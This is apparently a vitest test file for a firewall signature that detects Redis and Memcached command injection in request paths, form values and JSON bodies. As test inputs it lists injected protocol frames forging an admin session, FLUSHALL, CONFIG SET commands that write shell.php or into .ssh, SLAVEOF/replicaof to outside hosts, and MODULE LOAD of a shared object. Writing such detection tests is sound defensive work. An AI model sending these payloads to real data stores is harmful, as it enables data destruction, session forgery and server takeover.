/**
 * Redis and Memcached commands passed on to a store (store-commands.ts, 934193): protocol frames
 * after a line break, and commands that write the store's files or hand it to another server, in a
 * path, a value or a whole body; text that talks about them passes.
 */
import { describe, expect, it } from "vitest";
import { createSignatureEngine, type SignatureInput } from "../../../core/signatures/index.ts";
import { storeCommand } from "../../../core/signatures/store-commands.ts";
import { BACKENDS } from "./support.ts";

const enc = new TextEncoder();

function req(over: Partial<SignatureInput> = {}): SignatureInput {
  return { method: "GET", path: "/a", rawPath: "/a", query: [], headers: [["host", "app.example"]], ...over };
}

const where = (input: SignatureInput, engine = createSignatureEngine()): string[] =>
  engine.inspect(input, { paranoia: 1, threshold: 5 }).matches.map((m) => `${m.rule}@${m.location}`);
const body = (contentType: string, text: string): SignatureInput =>
  req({ method: "POST", body: { bytes: enc.encode(text), contentType, truncated: false } });

describe("store commands", () => {
  it("takes protocol frames after a line break", () => {
    for (const v of [
      'mail\r\n*3\r\n$3\r\nSET\r\n$11\r\nsess:admin1\r\n$27\r\n{"uid":1,"is_admin":true}\r\n',
      "x\n*1\n$8\nFLUSHALL\n",
      'abc 0 0 1\r\n1\r\nset memc.sess.key.adminsess 0 3600 44\r\nuser|s:5:"admin";\r\nget x',
      "id\r\nadd k 0 0 5 noreply\r\nhello\r\n",
      "k\r\ncas k 0 0 5 12345\r\nhello\r\n",
    ])
      expect(storeCommand(v), JSON.stringify(v)).toBe(true);
  });

  it("takes commands that write files, replicate or load a module, opening a path or a value", () => {
    for (const v of [
      "/CONFIG/SET/dir//var/www/html",
      "/config/set/dbfilename/shell.php",
      "CONFIG SET dir /var/lib/redis/.ssh",
      "SLAVEOF/198.51.100.23/21000",
      "replicaof evil.example 6379",
      "/MODULE/LOAD//tmp/exp.so",
      // On a line of its own after a line break: a host field written into the store's socket.
      "127.0.0.1\r\nCONFIG SET dir /tmp\r\nCONFIG SET dbfilename x\r\nSAVE\r\n",
      "cache.internal\n  slaveof 198.51.100.23 21000\n",
    ])
      expect(storeCommand(v), v).toBe(true);
  });

  it("leaves text, lists and settings pages alone", () => {
    for (const v of [
      "Steps:\r\n1. open the settings\r\n2. set the timer to 5 minutes\r\n",
      "add 2 cups flour\r\nset aside for 10 minutes\r\n",
      "Totals:\n* 3 items\n$ 12.50 due\n",
      "/settings/config/set-theme",
      "/api/config/set/dark-mode",
      "please run CONFIG SET dir /data on the replica",
      "slaveof is deprecated; use replicaof",
      "module load order matters",
      "set key 0 3600 44 in the docs",
      "Notes:\nconfig set up on Monday\nmodule loading is slow",
    ])
      expect(storeCommand(v), JSON.stringify(v)).toBe(false);
  });

  it("reports 934193 in a path, a value and a whole body, in both engines", () => {
    for (const { name, make } of BACKENDS) {
      const engine = make();
      expect(
        where(req({ path: "/CONFIG/SET/dir//var/www/html", rawPath: "/CONFIG/SET/dir/%2Fvar%2Fwww%2Fhtml" }), engine),
        name,
      ).toContain("934193@path");
      expect(
        where(
          body("application/x-www-form-urlencoded", "cmd=CONFIG%20SET%20dir%20%2Fvar%2Flib%2Fredis%2F.ssh"),
          engine,
        ),
        name,
      ).toContain("934193@body:form.cmd");
      expect(where(body("application/x-www-form-urlencoded", "SLAVEOF/198.51.100.23/21000"), engine), name).toContain(
        "934193@body:raw",
      );
      expect(
        where(
          body("application/json", JSON.stringify({ queue: "mail\r\n*3\r\n$3\r\nSET\r\n$1\r\nk\r\n$1\r\nv\r\n" })),
          engine,
        ),
        name,
      ).toContain("934193@body:json.queue");
      expect(where(body("application/x-www-form-urlencoded", "cmd=get%20user%3A42"), engine), name).toEqual([]);
    }
  });
});
